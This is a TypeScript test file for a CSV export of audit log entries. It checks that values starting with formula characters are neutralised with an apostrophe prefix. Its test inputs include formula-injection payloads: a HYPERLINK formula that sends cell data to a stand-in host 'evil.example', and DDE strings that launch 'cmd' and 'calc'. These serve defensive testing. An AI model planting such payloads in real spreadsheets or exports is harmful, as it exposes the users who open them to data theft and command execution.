import type { AuditEntry } from '@gauntlet/contract';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, csvTitles } from './trail-csv.ts';

/** A reader of another make: fields of one line in quotes. */
function fieldsOf(line: string): string[] {
  const fields: string[] = [];
  let rest = line;
  for (;;) {
    const [whole = '', field = ''] = /^"((?:[^"]|"")*)"/.exec(rest) ?? [];
    if (whole === '') throw new Error(`no field at ${rest}`);
    fields.push(field.replaceAll('""', '"'));
    rest = rest.slice(whole.length);
    if (rest === '\r\n') return fields;
    if (!rest.startsWith(',')) throw new Error(`no comma at ${rest}`);
    rest = rest.slice(1);
  }
}

const entry = (name: string): AuditEntry => ({
  id: '01900000-0000-7000-8000-000000000001',
  number: 7,
  at: '2026-11-25T12:00:00.000Z',
  action: 'secret.set',
  target: { kind: 'secret', id: null, name },
  detail: { note: name },
  by: { userId: null, username: name, via: 'token', tokenId: null, tokenName: name, sessionId: null },
  from: { address: '::1' },
  requestId: null,
});

describe('acts as comma-separated values', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    '+1+cmd|/C calc!A0',
    '-2+3',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '  =1+1',
    '"=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '%1',
    '|calc',
  ])('%j is a text for a spreadsheet, not a formula', (name) => {
    expect(csvField(name).startsWith(`"'`)).toBe(true);
    expect(fieldsOf(csvLine(entry(name)))[5]).toBe(`'${name}`);
  });

  it('leave what is no formula as it is, numbers included', () => {
    expect(['npm-token', 'a=b', 'x, "y"\r\nz', '', null, -3].map(csvField)).toEqual([
      '"npm-token"',
      '"a=b"',
      '"x, ""y""\r\nz"',
      '""',
      '""',
      '"-3"',
    ]);
  });

  it('read as they were written, whatever the names are, a field for every title', () => {
    const titles = fieldsOf(csvTitles());
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (name) => {
        const fields = fieldsOf(csvLine(entry(name)));
        expect(fields).toHaveLength(titles.length);
        const read = fields[titles.indexOf('target_name')] ?? '';
        expect([name, `'${name}`]).toContain(read);
        expect(/^[=+\-@\t\r\n]/.test(read)).toBe(false);
        expect(JSON.parse(fields[titles.indexOf('detail')] ?? '')).toEqual({ note: name });
      }),
    );
  });
});
